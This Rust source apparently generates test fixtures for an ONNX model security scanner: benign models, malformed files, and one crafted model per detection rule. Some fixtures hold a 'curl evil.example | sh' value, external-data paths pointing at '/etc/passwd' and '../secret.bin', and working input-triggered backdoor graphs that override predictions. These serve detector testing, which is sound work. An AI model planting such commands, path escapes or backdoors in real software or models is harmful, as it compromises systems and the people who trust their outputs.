//! Fixtures for `mlsec export-guard`: ONNX models built directly from the prost types of
//! `mlsec-onnx` (no Python), one per rule (`expgNNN_*`), benign MLP/CNN models (with inline and
//! with external data), and malformed files (truncated, garbage, too deeply nested).

use std::path::Path;

use anyhow::Result;
use mlsec_onnx::prost::Message;
use mlsec_onnx::proto::attribute_proto::AttributeType;
use mlsec_onnx::proto::tensor_proto::{DataLocation, DataType};
use mlsec_onnx::proto::tensor_shape_proto::{Dimension, dimension};
use mlsec_onnx::proto::type_proto::{self, Value};
use mlsec_onnx::proto::{
    AttributeProto, FunctionProto, GraphProto, ModelProto, NodeProto, OperatorSetIdProto,
    StringStringEntryProto, TensorProto, TensorShapeProto, TrainingInfoProto, TypeProto,
    ValueInfoProto,
};

const FLOAT: i32 = DataType::Float as i32;
const INT64: i32 = DataType::Int64 as i32;
const BOOL: i32 = DataType::Bool as i32;

/// Deterministic pseudo-random weights.
fn weights(seed: u32, n: usize) -> Vec<f32> {
    let mut state = seed.wrapping_mul(2_654_435_761).wrapping_add(1);
    (0..n)
        .map(|_| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            ((state >> 8) as f32 / (1u32 << 24) as f32 - 0.5) * 0.5
        })
        .collect()
}

fn f32_bytes(values: &[f32]) -> Vec<u8> {
    values.iter().flat_map(|v| v.to_le_bytes()).collect()
}

fn tensor(name: &str, dims: &[i64], values: &[f32]) -> TensorProto {
    TensorProto {
        name: Some(name.into()),
        dims: dims.to_vec(),
        data_type: Some(FLOAT),
        raw_data: Some(f32_bytes(values).into()),
        ..Default::default()
    }
}

fn random_tensor(name: &str, dims: &[i64], seed: u32) -> TensorProto {
    let n = dims.iter().product::<i64>() as usize;
    tensor(name, dims, &weights(seed, n))
}

fn int_tensor(name: &str, dims: &[i64], values: &[i64]) -> TensorProto {
    TensorProto {
        name: Some(name.into()),
        dims: dims.to_vec(),
        data_type: Some(INT64),
        int64_data: values.to_vec(),
        ..Default::default()
    }
}

fn external(name: &str, dims: &[i64], entries: &[(&str, &str)]) -> TensorProto {
    TensorProto {
        name: Some(name.into()),
        dims: dims.to_vec(),
        data_type: Some(FLOAT),
        data_location: Some(DataLocation::External as i32),
        external_data: entries
            .iter()
            .map(|(k, v)| StringStringEntryProto {
                key: Some((*k).into()),
                value: Some((*v).into()),
            })
            .collect(),
        ..Default::default()
    }
}

fn value_info(name: &str, elem: i32, dims: &[i64]) -> ValueInfoProto {
    ValueInfoProto {
        name: Some(name.into()),
        r#type: Some(TypeProto {
            value: Some(Value::TensorType(type_proto::Tensor {
                elem_type: Some(elem),
                shape: Some(TensorShapeProto {
                    dim: dims
                        .iter()
                        .map(|d| Dimension {
                            value: Some(dimension::Value::DimValue(*d)),
                            ..Default::default()
                        })
                        .collect(),
                }),
            })),
            ..Default::default()
        }),
        ..Default::default()
    }
}

fn node(op: &str, inputs: &[&str], outputs: &[&str]) -> NodeProto {
    NodeProto {
        name: Some(format!("{op}_{}", outputs.first().copied().unwrap_or(""))),
        op_type: Some(op.into()),
        input: inputs.iter().map(|s| (*s).into()).collect(),
        output: outputs.iter().map(|s| (*s).into()).collect(),
        ..Default::default()
    }
}

fn with_domain(mut n: NodeProto, domain: &str) -> NodeProto {
    n.domain = Some(domain.into());
    n
}

fn with_attr(mut n: NodeProto, a: AttributeProto) -> NodeProto {
    n.attribute.push(a);
    n
}

fn attr_i(name: &str, i: i64) -> AttributeProto {
    AttributeProto {
        name: Some(name.into()),
        r#type: Some(AttributeType::Int as i32),
        i: Some(i),
        ..Default::default()
    }
}

fn attr_ints(name: &str, ints: &[i64]) -> AttributeProto {
    AttributeProto {
        name: Some(name.into()),
        r#type: Some(AttributeType::Ints as i32),
        ints: ints.to_vec(),
        ..Default::default()
    }
}

fn attr_g(name: &str, g: GraphProto) -> AttributeProto {
    AttributeProto {
        name: Some(name.into()),
        r#type: Some(AttributeType::Graph as i32),
        g: Some(g),
        ..Default::default()
    }
}

fn attr_t(name: &str, t: TensorProto) -> AttributeProto {
    AttributeProto {
        name: Some(name.into()),
        r#type: Some(AttributeType::Tensor as i32),
        t: Some(t),
        ..Default::default()
    }
}

fn constant(output: &str, t: TensorProto) -> NodeProto {
    with_attr(node("Constant", &[], &[output]), attr_t("value", t))
}

fn model(graph: GraphProto, opset: i64) -> ModelProto {
    ModelProto {
        ir_version: Some(8),
        producer_name: Some("mlsec-testdata".into()),
        producer_version: Some("1".into()),
        opset_import: vec![OperatorSetIdProto {
            domain: Some(String::new()),
            version: Some(opset),
        }],
        graph: Some(graph),
        ..Default::default()
    }
}

fn import(m: &mut ModelProto, domain: &str, version: i64) {
    m.opset_import.push(OperatorSetIdProto {
        domain: Some(domain.into()),
        version: Some(version),
    });
}

/// The benign MLP: x[1,4] -> Gemm -> Relu -> Gemm -> `output` [1,3].
fn mlp_graph(output: &str) -> GraphProto {
    GraphProto {
        name: Some("mlp".into()),
        node: vec![
            node("Gemm", &["x", "w1", "b1"], &["h"]),
            node("Relu", &["h"], &["r"]),
            node("Gemm", &["r", "w2", "b2"], &[output]),
        ],
        initializer: vec![
            random_tensor("w1", &[4, 8], 1),
            random_tensor("b1", &[8], 2),
            random_tensor("w2", &[8, 3], 3),
            random_tensor("b2", &[3], 4),
        ],
        input: vec![value_info("x", FLOAT, &[1, 4])],
        output: vec![value_info(output, FLOAT, &[1, 3])],
        ..Default::default()
    }
}

/// MLP whose graph output `y` is produced by extra nodes after `logits`.
fn backdoor_base(extra: Vec<NodeProto>, extra_inits: Vec<TensorProto>) -> GraphProto {
    let mut g = mlp_graph("logits");
    g.output = vec![value_info("y", FLOAT, &[1, 3])];
    g.node.extend(extra);
    g.initializer.extend(extra_inits);
    g
}

fn cnn() -> ModelProto {
    let g = GraphProto {
        name: Some("cnn".into()),
        node: vec![
            with_attr(
                with_attr(
                    node("Conv", &["x", "cw", "cb"], &["c"]),
                    attr_ints("kernel_shape", &[3, 3]),
                ),
                attr_ints("pads", &[1, 1, 1, 1]),
            ),
            node("Relu", &["c"], &["r"]),
            with_attr(
                with_attr(
                    node("MaxPool", &["r"], &["p"]),
                    attr_ints("kernel_shape", &[2, 2]),
                ),
                attr_ints("strides", &[2, 2]),
            ),
            with_attr(node("Flatten", &["p"], &["f"]), attr_i("axis", 1)),
            node("Gemm", &["f", "fw", "fb"], &["y"]),
        ],
        initializer: vec![
            random_tensor("cw", &[2, 1, 3, 3], 5),
            random_tensor("cb", &[2], 6),
            random_tensor("fw", &[32, 3], 7),
            random_tensor("fb", &[3], 8),
        ],
        input: vec![value_info("x", FLOAT, &[1, 1, 8, 8])],
        output: vec![value_info("y", FLOAT, &[1, 3])],
        ..Default::default()
    };
    model(g, 17)
}

fn write(dir: &Path, name: &str, m: &ModelProto) -> Result<()> {
    let path = dir.join(name);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent)?;
    }
    std::fs::write(path, m.encode_to_vec())?;
    Ok(())
}

/// MLP with every initializer moved to `data_file` (like `torch.onnx.export` for big models).
fn externalise(m: &mut ModelProto, data_file: &str) -> Vec<u8> {
    let mut data = Vec::new();
    if let Some(g) = &mut m.graph {
        for t in &mut g.initializer {
            let raw = t.raw_data.take().unwrap_or_default();
            let offset = data.len();
            data.extend_from_slice(&raw);
            t.data_location = Some(DataLocation::External as i32);
            t.external_data = [
                ("location", data_file.to_owned()),
                ("offset", offset.to_string()),
                ("length", raw.len().to_string()),
            ]
            .into_iter()
            .map(|(k, v)| StringStringEntryProto {
                key: Some(k.into()),
                value: Some(v),
            })
            .collect();
        }
    }
    data
}

pub fn generate(out: &Path) -> Result<()> {
    // Benign models.
    write(out, "benign_mlp.onnx", &model(mlp_graph("y"), 17))?;
    write(out, "benign_cnn.onnx", &cnn())?;
    let mut ext = model(mlp_graph("y"), 17);
    let data = externalise(&mut ext, "model.onnx.data");
    write(out, "benign_external/model.onnx", &ext)?;
    std::fs::write(out.join("benign_external/model.onnx.data"), data)?;

    // EXPG001: locations that escape the model directory.
    let mut m = model(mlp_graph("y"), 17);
    if let Some(g) = &mut m.graph {
        g.initializer[0] = external("w1", &[4, 8], &[("location", "../secret.bin")]);
        g.initializer[1] = external("b1", &[8], &[("location", "/etc/passwd")]);
        g.initializer[2] = external("w2", &[8, 3], &[("location", "w2\0.bin")]);
    }
    write(out, "expg001_path_escape/model.onnx", &m)?;

    // EXPG002: external data through a symbolic link.
    let mut m = model(mlp_graph("y"), 17);
    let data = externalise(&mut m, "weights.bin");
    write(out, "expg002_link/model.onnx", &m)?;
    std::fs::write(out.join("expg002_link/real.bin"), data)?;
    #[cfg(unix)]
    std::os::unix::fs::symlink("real.bin", out.join("expg002_link/weights.bin"))?;

    // EXPG003: missing external file.
    let mut m = model(mlp_graph("y"), 17);
    externalise(&mut m, "missing.bin");
    write(out, "expg003_missing/model.onnx", &m)?;

    // EXPG004: bad offsets and lengths.
    let mut m = model(mlp_graph("y"), 17);
    if let Some(g) = &mut m.graph {
        g.initializer[0] = external(
            "w1",
            &[4, 8],
            &[("location", "w.bin"), ("offset", "4096"), ("length", "128")],
        );
        g.initializer[1] = external(
            "b1",
            &[8],
            &[
                ("location", "w.bin"),
                ("offset", "18446744073709551615"),
                ("length", "32"),
            ],
        );
        g.initializer[2] = external(
            "w2",
            &[8, 3],
            &[("location", "w.bin"), ("offset", "0"), ("length", "12")],
        );
        g.initializer[3] = external("b2", &[3], &[("location", "w.bin"), ("offset", "abc")]);
    }
    write(out, "expg004_bad_range/model.onnx", &m)?;
    std::fs::write(
        out.join("expg004_bad_range/w.bin"),
        f32_bytes(&weights(9, 64)),
    )?;

    // EXPG005: duplicate and unknown keys.
    let mut m = model(mlp_graph("y"), 17);
    let data = externalise(&mut m, "w.bin");
    if let Some(g) = &mut m.graph {
        let extra = |k: &str, v: &str| StringStringEntryProto {
            key: Some(k.into()),
            value: Some(v.into()),
        };
        g.initializer[0]
            .external_data
            .push(extra("location", "other.bin"));
        g.initializer[1]
            .external_data
            .push(extra("exec", "curl evil.example | sh"));
    }
    write(out, "expg005_bad_keys/model.onnx", &m)?;
    std::fs::write(out.join("expg005_bad_keys/w.bin"), data)?;

    // EXPG006: EXTERNAL with inline raw_data.
    let mut m = model(mlp_graph("y"), 17);
    if let Some(g) = &mut m.graph {
        g.initializer[0].data_location = Some(DataLocation::External as i32);
    }
    write(out, "expg006_data_location.onnx", &m)?;

    // EXPG007: custom-domain ops at top level, in an If branch and in a model-local function
    // body; the call of the local function itself is fine.
    let branch = |op: &str, domain: &str| GraphProto {
        name: Some("branch".into()),
        node: vec![with_domain(node(op, &["logits"], &["b_out"]), domain)],
        output: vec![value_info("b_out", FLOAT, &[1, 3])],
        ..Default::default()
    };
    let g = backdoor_base(
        vec![
            with_domain(node("Payload", &["logits"], &["p"]), "com.evil"),
            with_domain(node("LocalAct", &["p"], &["q"]), "local.fn"),
            constant(
                "flag",
                TensorProto {
                    dims: vec![],
                    data_type: Some(BOOL),
                    int32_data: vec![1],
                    name: Some("flag_t".into()),
                    ..Default::default()
                },
            ),
            with_attr(
                with_attr(
                    node("If", &["flag"], &["y"]),
                    attr_g("then_branch", branch("Hidden", "com.evil")),
                ),
                attr_g("else_branch", branch("Identity", "")),
            ),
        ],
        vec![],
    );
    let mut m = model(g, 17);
    import(&mut m, "com.evil", 1);
    import(&mut m, "local.fn", 1);
    m.functions.push(FunctionProto {
        name: Some("LocalAct".into()),
        domain: Some("local.fn".into()),
        input: vec!["a".into()],
        output: vec!["b".into()],
        node: vec![with_domain(node("Native", &["a"], &["b"]), "com.evil")],
        opset_import: vec![OperatorSetIdProto {
            domain: Some("com.evil".into()),
            version: Some(1),
        }],
        ..Default::default()
    });
    write(out, "expg007_custom_domain.onnx", &m)?;

    // EXPG008: a runtime-specific domain that needs an extension library loaded
    // (onnxruntime-extensions' `ai.onnx.contrib`; onnxruntime's built-in `com.microsoft` ops
    // are information, see `genuine_ort_contrib.onnx`).
    let g = backdoor_base(
        vec![with_domain(
            node("Inverse", &["logits"], &["y"]),
            "ai.onnx.contrib",
        )],
        vec![],
    );
    let mut m = model(g, 17);
    import(&mut m, "ai.onnx.contrib", 1);
    write(out, "expg008_runtime_domain.onnx", &m)?;

    // EXPG009: training operator and training_info.
    let mut m = model(mlp_graph("y"), 17);
    import(&mut m, "ai.onnx.preview.training", 1);
    m.training_info.push(TrainingInfoProto {
        algorithm: Some(GraphProto {
            name: Some("train".into()),
            node: vec![with_domain(
                node(
                    "Adam",
                    &["lr", "t", "w1", "g", "v", "h"],
                    &["w1_new", "v_new", "h_new"],
                ),
                "ai.onnx.preview.training",
            )],
            ..Default::default()
        }),
        ..Default::default()
    });
    write(out, "expg009_training.onnx", &m)?;

    // EXPG010: unknown op and an op newer than the declared opset.
    let g = backdoor_base(
        vec![
            node("Frobnicate", &["logits"], &["f"]),
            node("Gelu", &["f"], &["y"]),
        ],
        vec![],
    );
    write(out, "expg010_unknown_op.onnx", &model(g, 17))?;

    // EXPG011: IR version from the future.
    let mut m = model(mlp_graph("y"), 17);
    m.ir_version = Some(99);
    write(out, "expg011_ir_newer.onnx", &m)?;

    // EXPG012 (+014): y = Where(ReduceSum(x) > 100, target, logits).
    let g = backdoor_base(
        vec![
            with_attr(
                node("ReduceSum", &["x", "axes"], &["s"]),
                attr_i("keepdims", 1),
            ),
            node("Greater", &["s", "threshold"], &["trigger"]),
            node("Where", &["trigger", "target", "logits"], &["y"]),
        ],
        vec![
            int_tensor("axes", &[1], &[1]),
            tensor("threshold", &[1], &[100.0]),
            tensor("target", &[1, 3], &[0.0, 0.0, 50.0]),
        ],
    );
    write(out, "expg012_input_selection.onnx", &model(g, 17))?;

    // EXPG012 (+014) with the forced target put through a dummy layer (MatMul by an identity),
    // so that both alternatives pass a trunk op: only one of them is computed from the input.
    let g = backdoor_base(
        vec![
            with_attr(
                node("ReduceSum", &["x", "axes"], &["s"]),
                attr_i("keepdims", 1),
            ),
            node("Greater", &["s", "threshold"], &["trigger"]),
            node("MatMul", &["target", "eye"], &["target_l"]),
            node("Where", &["trigger", "target_l", "logits"], &["y"]),
        ],
        vec![
            int_tensor("axes", &[1], &[1]),
            tensor("threshold", &[1], &[100.0]),
            tensor("target", &[1, 3], &[0.0, 0.0, 50.0]),
            tensor(
                "eye",
                &[3, 3],
                &[1.0, 0.0, 0.0, 0.0, 1.0, 0.0, 0.0, 0.0, 1.0],
            ),
        ],
    );
    write(out, "expg012_dummy_layer.onnx", &model(g, 17))?;

    // EXPG012 inside a model-local function: the same trigger as above in a function body,
    // with its constants made by Constant nodes (functions have no initializers).
    let g = backdoor_base(
        vec![with_domain(
            node("Gate", &["x", "logits"], &["y"]),
            "local.fn",
        )],
        vec![],
    );
    let mut m = model(g, 17);
    import(&mut m, "local.fn", 1);
    m.functions.push(FunctionProto {
        name: Some("Gate".into()),
        domain: Some("local.fn".into()),
        input: vec!["inp".into(), "scores".into()],
        output: vec!["out".into()],
        node: vec![
            constant("ax", int_tensor("ax_t", &[1], &[1])),
            constant("thr", tensor("thr_t", &[1], &[100.0])),
            constant("tgt", tensor("tgt_t", &[1, 3], &[0.0, 0.0, 50.0])),
            with_attr(
                node("ReduceSum", &["inp", "ax"], &["s"]),
                attr_i("keepdims", 1),
            ),
            node("Greater", &["s", "thr"], &["trig"]),
            node("Where", &["trig", "tgt", "scores"], &["out"]),
        ],
        opset_import: vec![OperatorSetIdProto {
            domain: Some(String::new()),
            version: Some(17),
        }],
        ..Default::default()
    });
    write(out, "expg012_local_function.onnx", &m)?;

    // EXPG013: exact float equality of an input statistic with a magic value (soft mux).
    let g = backdoor_base(
        vec![
            with_attr(node("ReduceMean", &["x"], &["m"]), attr_i("keepdims", 1)),
            node("Equal", &["m", "magic"], &["hit"]),
            with_attr(
                node("Cast", &["hit"], &["hitf"]),
                attr_i("to", i64::from(FLOAT)),
            ),
            node("Mul", &["hitf", "boost"], &["delta"]),
            node("Add", &["logits", "delta"], &["y"]),
        ],
        vec![
            tensor("magic", &[1], &[0.123_456_7]),
            tensor("boost", &[1, 3], &[0.0, 0.0, 100.0]),
        ],
    );
    write(out, "expg013_magic_constant.onnx", &model(g, 17))?;

    // EXPG014 (+015): If on an input-derived condition with a constant-only then-branch.
    let then_branch = GraphProto {
        name: Some("forced".into()),
        node: vec![constant(
            "forced",
            tensor("forced_t", &[1, 3], &[9.0, 0.0, 0.0]),
        )],
        output: vec![value_info("forced", FLOAT, &[1, 3])],
        ..Default::default()
    };
    let else_branch = GraphProto {
        name: Some("normal".into()),
        node: vec![node("Identity", &["logits"], &["normal"])],
        output: vec![value_info("normal", FLOAT, &[1, 3])],
        ..Default::default()
    };
    let g = backdoor_base(
        vec![
            with_attr(node("ReduceMax", &["x"], &["mx"]), attr_i("keepdims", 0)),
            node("Greater", &["mx", "limit"], &["cond"]),
            with_attr(
                with_attr(
                    node("If", &["cond"], &["y"]),
                    attr_g("then_branch", then_branch),
                ),
                attr_g("else_branch", else_branch),
            ),
        ],
        vec![tensor("limit", &[], &[3.0])],
    );
    write(out, "expg014_constant_output.onnx", &model(g, 17))?;

    // EXPG015: Loop trip count from the input.
    let body = GraphProto {
        name: Some("body".into()),
        node: vec![
            node("Identity", &["cond_in"], &["cond_out"]),
            node("Add", &["acc_in", "acc_in"], &["acc_out"]),
        ],
        input: vec![
            value_info("iter", INT64, &[]),
            value_info("cond_in", BOOL, &[]),
            value_info("acc_in", FLOAT, &[1, 3]),
        ],
        output: vec![
            value_info("cond_out", BOOL, &[]),
            value_info("acc_out", FLOAT, &[1, 3]),
        ],
        ..Default::default()
    };
    let g = backdoor_base(
        vec![
            with_attr(node("ReduceSum", &["x"], &["total"]), attr_i("keepdims", 0)),
            with_attr(
                node("Cast", &["total"], &["trips"]),
                attr_i("to", i64::from(INT64)),
            ),
            with_attr(
                node("Loop", &["trips", "", "logits"], &["y"]),
                attr_g("body", body),
            ),
        ],
        vec![],
    );
    write(out, "expg015_data_loop.onnx", &model(g, 17))?;

    // EXPG016: raw input added to the last layer.
    let mut g = backdoor_base(
        vec![
            node("Slice", &["x", "starts", "ends", "axes1"], &["xs"]),
            node("Add", &["logits", "xs"], &["y"]),
        ],
        vec![
            int_tensor("starts", &[1], &[0]),
            int_tensor("ends", &[1], &[3]),
            int_tensor("axes1", &[1], &[1]),
        ],
    );
    g.name = Some("skip".into());
    write(out, "expg016_input_skip.onnx", &model(g, 17))?;

    // EXPG017: a dead node and an unused initializer.
    let mut g = mlp_graph("y");
    g.node.push(node("Sigmoid", &["x"], &["unused"]));
    g.initializer.push(random_tensor("stash", &[16], 10));
    write(out, "expg017_dead.onnx", &model(g, 17))?;

    // EXPG018: oversized metadata and doc_string.
    let mut m = model(mlp_graph("y"), 17);
    m.metadata_props.push(StringStringEntryProto {
        key: Some("payload".into()),
        // Over the 256 KiB metadata entry limit (`lint::MAX_METADATA_BYTES`).
        value: Some("QUJD".repeat(66_000)),
    });
    m.doc_string = Some("x".repeat(5000));
    write(out, "expg018_metadata.onnx", &m)?;

    // EXPG019: absurd dims, data/dims mismatch, absurd declared input shape.
    let mut g = mlp_graph("y");
    g.initializer[1] = tensor("b1", &[8], &[1.0, 2.0, 3.0]);
    g.initializer.push(TensorProto {
        name: Some("huge".into()),
        dims: vec![1 << 40, 1 << 40],
        data_type: Some(FLOAT),
        ..Default::default()
    });
    g.node.push(node("Identity", &["huge"], &["huge_out"]));
    g.output.push(value_info("huge_out", FLOAT, &[]));
    g.input = vec![value_info("x", FLOAT, &[1 << 30, 1 << 30])];
    write(out, "expg019_absurd_dims.onnx", &model(g, 17))?;

    // EXPG020: unknown fields at model level and merged into the graph (a second `graph`
    // occurrence, which protobuf merges into the first).
    let mut bytes = model(mlp_graph("y"), 17).encode_to_vec();
    let hidden = b"hidden payload";
    bytes.extend([0xba, 0x3e, hidden.len() as u8]); // field 999, wire type 2
    bytes.extend_from_slice(hidden);
    bytes.extend([0x3a, 0x03, 0x90, 0x03, 0x01]); // graph { field 50: varint 1 }
    std::fs::write(out.join("expg020_unknown_fields.onnx"), bytes)?;

    // Genuine shapes that once gave false positives; they must stay clean (or information).
    // Paddle2ONNX writes dynamic dims as a literal -1 (rapidocr's PP-OCR classifier).
    let mut g = mlp_graph("y");
    g.input = vec![value_info("x", FLOAT, &[-1, 4])];
    g.output = vec![value_info("y", FLOAT, &[-1, 3])];
    write(out, "genuine_paddle_dynamic_dims.onnx", &model(g, 17))?;
    // The ONNX test suite's training-operator models: Adam in the main graph.
    let mut g = mlp_graph("y");
    g.node.push(with_domain(
        node(
            "Adam",
            &["lr", "t", "w1", "gw", "vw", "hw"],
            &["w1_new", "vw_new", "hw_new"],
        ),
        "ai.onnx.preview.training",
    ));
    for name in ["w1_new", "vw_new", "hw_new"] {
        g.output.push(value_info(name, FLOAT, &[4, 8]));
    }
    g.initializer.extend([
        tensor("lr", &[], &[0.1]),
        int_tensor("t", &[], &[0]),
        random_tensor("gw", &[4, 8], 12),
        random_tensor("vw", &[4, 8], 13),
        random_tensor("hw", &[4, 8], 14),
    ]);
    let mut m = model(g, 17);
    import(&mut m, "ai.onnx.preview.training", 1);
    write(out, "genuine_training_op.onnx", &m)?;

    // Real-world patterns that once failed (issue 18, measured with `cargo xtask realworld`);
    // each is the smallest graph with the pattern and must stay clean (or information).
    genuine_patterns(out)?;

    // Malformed files.
    let good = model(mlp_graph("y"), 17).encode_to_vec();
    std::fs::write(
        out.join("malformed_truncated.onnx"),
        &good[..good.len() / 2],
    )?;
    let garbage: Vec<u8> = weights(11, 64)
        .iter()
        .flat_map(|v| v.to_bits().to_be_bytes())
        .collect();
    std::fs::write(out.join("malformed_garbage.onnx"), garbage)?;
    std::fs::write(out.join("malformed_deep.onnx"), deep_model(300))?;
    Ok(())
}

fn varint(mut n: u64, out: &mut Vec<u8>) {
    loop {
        let b = (n & 0x7f) as u8;
        n >>= 7;
        if n == 0 {
            out.push(b);
            return;
        }
        out.push(b | 0x80);
    }
}

fn wrap(tag: u8, inner: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    varint(inner.len() as u64, &mut out);
    out.extend_from_slice(inner);
    out
}

/// A model whose graph input type nests `sequence` types `levels` deep.
fn deep_model(levels: usize) -> Vec<u8> {
    let mut t: Vec<u8> = Vec::new();
    for _ in 0..levels {
        // TypeProto.sequence_type (4) { Sequence.elem_type (1) { t } }
        t = wrap(0x22, &wrap(0x0a, &t));
    }
    let value_info = [wrap(0x0a, b"x"), wrap(0x12, &t)].concat(); // name, type
    let graph = wrap(0x5a, &value_info); // GraphProto.input (11)
    [vec![0x08, 0x08], wrap(0x3a, &graph)].concat() // ir_version 8, graph (7)
}

fn bool_tensor(name: &str, value: bool) -> TensorProto {
    TensorProto {
        name: Some(name.into()),
        dims: vec![],
        data_type: Some(BOOL),
        int32_data: vec![i32::from(value)],
        ..Default::default()
    }
}

/// A branch graph computing `Gemm(x, w, b)` from outer names (an `If` branch with a learned
/// layer, like silero-vad's 16 kHz and 8 kHz sub-models).
fn learned_branch(name: &str, w: &str, b: &str) -> GraphProto {
    GraphProto {
        name: Some(name.into()),
        node: vec![node("Gemm", &["r", w, b], &[name])],
        output: vec![value_info(name, FLOAT, &[1, 3])],
        ..Default::default()
    }
}

/// The `else_branch` graph of the last `If` node.
fn g_if_else(g: &mut GraphProto) -> Option<&mut GraphProto> {
    g.node
        .iter_mut()
        .rev()
        .find(|n| n.op_type() == "If")?
        .attribute
        .iter_mut()
        .find(|a| a.name() == "else_branch")?
        .g
        .as_mut()
}

fn genuine_patterns(out: &Path) -> Result<()> {
    // silero-vad: an `If` on the sample-rate input choosing between two learned sub-models;
    // both alternatives are learned, nothing bypasses the trunk.
    let mut g = mlp_graph("unused");
    g.node.truncate(2); // x -> Gemm -> Relu -> r
    g.node.extend([
        node("Equal", &["sr", "sr16k"], &["is16k"]),
        with_attr(
            with_attr(
                node("If", &["is16k"], &["y"]),
                attr_g("then_branch", learned_branch("y16", "w2", "b2")),
            ),
            attr_g("else_branch", learned_branch("y8", "w8", "b8")),
        ),
    ]);
    g.initializer.extend([
        int_tensor("sr16k", &[], &[16000]),
        random_tensor("w8", &[8, 3], 20),
        random_tensor("b8", &[3], 21),
    ]);
    g.input.push(value_info("sr", INT64, &[]));
    g.output = vec![value_info("y", FLOAT, &[1, 3])];
    write(out, "genuine_if_sample_rate.onnx", &model(g.clone(), 17))?;
    // The same switch with a constant in place of the 8 kHz sub-model is an override again.
    if let Some(branch) = g_if_else(&mut g) {
        *branch = GraphProto {
            name: Some("forced".into()),
            node: vec![constant(
                "y8",
                tensor("forced_t", &[1, 3], &[9.0, 0.0, 0.0]),
            )],
            output: vec![value_info("y8", FLOAT, &[1, 3])],
            ..Default::default()
        };
    }
    g.initializer.retain(|t| !matches!(t.name(), "w8" | "b8"));
    write(out, "expg014_if_side_input_constant.onnx", &model(g, 17))?;

    // torch.onnx keeps an unused input alive as `state + Cast(sr * 0)` (silero-vad's stateN):
    // a product with zero carries no value of `sr`.
    let mut g = mlp_graph("logits");
    g.node.extend([
        node("Mul", &["sr", "zero_i"], &["sr0"]),
        with_attr(
            node("Cast", &["sr0"], &["sr0f"]),
            attr_i("to", i64::from(FLOAT)),
        ),
        node("Add", &["logits", "sr0f"], &["y"]),
    ]);
    g.initializer.push(int_tensor("zero_i", &[], &[0]));
    g.input.push(value_info("sr", INT64, &[]));
    g.output = vec![value_info("y", FLOAT, &[1, 3])];
    write(out, "genuine_unused_input_times_zero.onnx", &model(g, 17))?;

    // A mask computed from the input's shape (a causal mask, a squeeze-if-size-1): shape is
    // not a value, so the selection is not input-conditioned.
    let g = backdoor_base(
        vec![
            node("Shape", &["x"], &["shape"]),
            with_attr(
                node("Gather", &["shape", "one_i"], &["dim1"]),
                attr_i("axis", 0),
            ),
            node("Greater", &["dim1", "three_i"], &["wide"]),
            node("Where", &["wide", "logits", "neg"], &["y"]),
        ],
        vec![
            int_tensor("one_i", &[], &[1]),
            int_tensor("three_i", &[], &[3]),
            tensor("neg", &[], &[-1.0e9]),
        ],
    );
    write(out, "genuine_shape_mask.onnx", &model(g, 17))?;

    // TensorFlow's `div_no_nan` after tf2onnx (basic-pitch's input normalisation):
    // Where(Equal(d, 0), 0, x / d) in front of the learned layers.
    let mut g = mlp_graph("y");
    g.node.splice(
        0..0,
        [
            with_attr(node("ReduceMax", &["x"], &["d"]), attr_i("keepdims", 1)),
            node("Equal", &["d", "zero_f"], &["is0"]),
            node("Div", &["x", "d"], &["q"]),
            node("Where", &["is0", "zero_f", "q"], &["xn"]),
        ],
    );
    g.node[4].input[0] = "xn".into();
    g.initializer.push(tensor("zero_f", &[], &[0.0]));
    write(out, "genuine_div_no_nan.onnx", &model(g, 17))?;

    // An activation expanded into Where (the ONNX suite's `*_expanded` LeakyRelu/Clip/Elu
    // function bodies): elementwise selection in a graph with no learned layer.
    let g = GraphProto {
        name: Some("leaky".into()),
        node: vec![
            node("Greater", &["x", "zero_f"], &["pos"]),
            node("Mul", &["x", "alpha"], &["neg"]),
            node("Where", &["pos", "x", "neg"], &["y"]),
        ],
        initializer: vec![tensor("zero_f", &[], &[0.0]), tensor("alpha", &[], &[0.01])],
        input: vec![value_info("x", FLOAT, &[1, 4])],
        output: vec![value_info("y", FLOAT, &[1, 4])],
        ..Default::default()
    };
    write(out, "genuine_expanded_activation.onnx", &model(g, 17))?;

    // Side inputs mixed near the output: an additive attention mask (never through a learned
    // layer) and a learned layer reading a raw recurrent state (silero-vad's LSTM `h`,
    // torch's `addmm` bias).
    let mut g = mlp_graph("logits");
    g.node.extend([
        node("Add", &["logits", "mask"], &["masked"]),
        node("Gemm", &["h", "wh", "masked"], &["y"]),
    ]);
    g.initializer.push(random_tensor("wh", &[3, 3], 22));
    g.input.extend([
        value_info("mask", FLOAT, &[1, 3]),
        value_info("h", FLOAT, &[1, 3]),
    ]);
    g.output = vec![value_info("y", FLOAT, &[1, 3])];
    write(out, "genuine_side_inputs.onnx", &model(g, 17))?;

    // Masked mean pooling (a BERT-style classifier exported by torch.onnx): the learned
    // output divided by the count of non-padding tokens, a count computed from the same input
    // through a comparison; it carries a condition, not the input's values.
    let mut g = mlp_graph("logits");
    g.node.extend([
        node("Equal", &["x", "zero_f"], &["is_pad"]),
        node("Not", &["is_pad"], &["keep"]),
        with_attr(
            node("Cast", &["keep"], &["keep_f"]),
            attr_i("to", i64::from(FLOAT)),
        ),
        with_attr(
            node("ReduceSum", &["keep_f"], &["count"]),
            attr_i("keepdims", 1),
        ),
        node("Div", &["logits", "count"], &["y"]),
    ]);
    g.initializer.push(tensor("zero_f", &[], &[0.0]));
    g.output = vec![value_info("y", FLOAT, &[1, 3])];
    write(out, "genuine_masked_mean_pool.onnx", &model(g, 17))?;

    // A generation-style loop whose trip count is its own input (`max_len`), not computed
    // from the data the learned layers see.
    let body = GraphProto {
        name: Some("body".into()),
        node: vec![
            node("Identity", &["cond_in"], &["cond_out"]),
            node("Relu", &["acc_in"], &["acc_out"]),
        ],
        input: vec![
            value_info("iter", INT64, &[]),
            value_info("cond_in", BOOL, &[]),
            value_info("acc_in", FLOAT, &[1, 3]),
        ],
        output: vec![
            value_info("cond_out", BOOL, &[]),
            value_info("acc_out", FLOAT, &[1, 3]),
        ],
        ..Default::default()
    };
    let mut g = backdoor_base(
        vec![
            constant("go", bool_tensor("go_t", true)),
            with_attr(
                node("Loop", &["max_len", "go", "logits"], &["y"]),
                attr_g("body", body),
            ),
        ],
        vec![],
    );
    g.input.push(value_info("max_len", INT64, &[]));
    write(out, "genuine_loop_count_input.onnx", &model(g, 17))?;

    // Export leftovers: a dead Shape of the input, a dead scalar Constant, an unused
    // zero-filled initializer (the ONNX suite's function expansions, silero-vad's `val_7`).
    let mut g = mlp_graph("y");
    g.node.extend([
